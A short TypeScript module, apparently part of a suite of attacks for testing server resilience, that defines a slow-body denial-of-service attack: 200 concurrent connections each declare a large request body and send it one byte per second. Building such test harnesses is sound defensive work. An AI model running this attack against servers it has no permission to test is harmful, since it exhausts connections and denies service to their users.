import { type Attack, strangers } from "./attack.ts";
import { repeat, sendSlowly, unsignedHead } from "./connection.ts";

export const slowBodies: Attack = {
  name: "bodies of a byte a second, 200 at once",
  run: (url, signal) =>
    strangers(200, signal, () =>
      sendSlowly(url, signal, { pieces: repeat(`${unsignedHead(1_000_000)}\r\n`, " "), pauseMs: 1_000 }),
    ),
};
